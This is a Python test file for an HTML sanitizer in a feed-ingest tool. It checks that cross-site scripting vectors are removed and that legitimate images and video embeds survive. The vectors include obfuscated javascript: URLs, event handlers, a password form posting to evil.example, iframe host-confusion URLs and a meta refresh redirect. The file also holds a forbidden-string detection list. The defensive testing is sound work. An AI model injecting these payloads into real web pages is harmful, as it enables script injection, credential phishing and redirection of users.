"""Hostile HTML is defused; what real feeds need to render survives."""

from __future__ import annotations

import pytest

from ingest.digest.sanitize import first_image, html_to_text, sanitize_html
from ingest.errors import EntryError

IMAGE = '<img src="https://img.example/a.png" referrerpolicy="no-referrer" alt="A">'

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "style": "<style>body{display:none}</style>",
    "event handler": '<img src="https://img.example/x.png" onerror="alert(1)">',
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "entity-encoded javascript": '<a href="&#106;avascript:alert(1)">x</a>',
    "padded entity javascript": '<a href="&#0000106;&#0000097;vascript:alert(1)">x</a>',
    "hex entity javascript": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "tab-prefixed javascript": '<a href="&#x09;javascript:alert(1)">x</a>',
    "newline inside javascript": '<a href="java\nscript:alert(1)">x</a>',
    "mixed-case javascript": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "space-prefixed javascript": '<a href=" javascript:alert(1)">x</a>',
    "javascript in img src": '<img src="javascript:alert(1)">',
    "javascript in data-original": '<img data-original="javascript:alert(1)">',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data: html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "form": '<form action="https://evil.example/"><input name="pw"><button>go</button></form>',
    "foreign iframe": '<iframe src="https://evil.example/frame"></iframe>',
    "http youtube iframe": '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
    # Python's urlsplit reads the host after the "@"; browsers read the backslash as "/".
    "backslash before userinfo iframe": (
        '<iframe src="https://evil.example\\@www.youtube.com/embed/abc"></iframe>'
    ),
    "userinfo iframe": '<iframe src="https://evil.example@www.youtube.com/embed/abc"></iframe>',
    "tab in iframe scheme": '<iframe src="ht&#9;tps://evil.example/embed/abc"></iframe>',
    "backslashes as slashes iframe": '<iframe src="https:\\\\evil.example\\embed"></iframe>',
    "backslash data-original": '<img data-original="javascript:\\evil.example/x">',
    "upper-case entity data-original": '<img DATA-ORIGINAL="&#106;avascript:alert(1)">',
    "data-original after a quoted >": '<img alt="a>b" data-original="javascript:alert(1)">',
    "data-original after a quoted quote": ('<img alt=\'q"x\' data-original="javascript:alert(1)">'),
    "foreign iframe after a quoted >": '<iframe title="a>b" src="https://evil.example/x"></iframe>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": '<svg onload="alert(1)"></svg>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
}

_FORBIDDEN = (
    "<script",
    "alert(1)",
    "javascript:",
    "vbscript",
    "onerror",
    "onload",
    "<form",
    "<input",
    "<style",
    "<svg",
    "<object",
    "<embed",
    "<meta",
    "<base",
    "<link",
    "style=",
    "evil.example",
    "data:text",
)


@pytest.mark.parametrize("vector", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markup_is_removed_and_the_image_beside_it_kept(vector: str) -> None:
    cleaned = sanitize_html(f"<p>before</p>{vector}{IMAGE}<p>after</p>")

    lowered = cleaned.lower()
    assert not [needle for needle in _FORBIDDEN if needle in lowered]
    assert IMAGE.replace(">", "") in cleaned  # the image and all its attributes, unchanged
    assert "before" in cleaned
    assert "after" in cleaned


def test_video_embeds_over_https_survive() -> None:
    embed = '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315"></iframe>'
    assert sanitize_html(embed) == embed


def test_seed_style_image_and_link_survive_unchanged() -> None:
    fragment = (
        '<a target="_blank" href="https://static.example/big.png">'
        '<img data-original="https://static.example/big.png" '
        'src="https://static.example/thumb.png" referrerpolicy="no-referrer"></a>'
    )
    cleaned = sanitize_html(fragment)
    assert 'href="https://static.example/big.png"' in cleaned
    assert 'target="_blank"' in cleaned
    assert (
        '<img data-original="https://static.example/big.png" '
        'src="https://static.example/thumb.png" referrerpolicy="no-referrer">'
    ) in cleaned


def test_relative_urls_are_made_absolute_against_the_base() -> None:
    cleaned = sanitize_html(
        '<a href="../b.html">b</a><img src="/i.png" data-original="big.png">',
        "https://example.org/dir/page.html",
    )
    assert 'href="https://example.org/b.html"' in cleaned
    assert 'src="https://example.org/i.png"' in cleaned
    assert 'data-original="https://example.org/dir/big.png"' in cleaned


def test_first_image_is_the_first_absolute_src_not_data_original() -> None:
    html = sanitize_html(
        '<img src="rel.png"><img data-original="https://x/big.png" src="https://x/thumb.png">'
    )
    assert first_image(html) == "https://x/thumb.png"
    assert first_image("<p>no image</p>") is None


def test_html_to_text_strips_tags_decodes_entities_and_collapses_whitespace() -> None:
    assert (
        html_to_text("  <b>AT&amp;T</b>\n\n  rocks &lt;3 <script>x()</script> ") == "AT&T rocks <3"
    )


DEEP = {
    "nested divs": "<div>" * 600,
    "upper case": "<DIV>" * 600,
    "closed by the wrong name": "<div></span>" * 600,
    "a name the tokenizer does not split at NBSP": "<p\xa0>" * 600 + "</x>" * 600,
    "a non-ASCII K the tokenizer does not lower": "<lin\u212a>" * 600,
    "buttons kept apart by tables": "<button><table>" * 600,
}

SHALLOW = {
    "unclosed paragraphs": "<p>para" * 2000,
    "a long list": "<ul>" + "<li>item" * 2000 + "</ul>",
    "unclosed links": '<a href="https://e.example/">x' * 2000,
    "many closed divs": "<div>x</div>" * 2000,
    "images and breaks": '<img src="https://e.example/i.png"><br>' * 2000,
}


@pytest.mark.parametrize("markup", DEEP.values(), ids=DEEP.keys())
def test_markup_nested_deeper_than_browsers_build_is_refused(markup: str) -> None:
    with pytest.raises(EntryError, match="nests elements more than 512 deep"):
        sanitize_html(markup)


@pytest.mark.parametrize("markup", SHALLOW.values(), ids=SHALLOW.keys())
def test_long_but_shallow_markup_is_cleaned(markup: str) -> None:
    assert sanitize_html(markup)
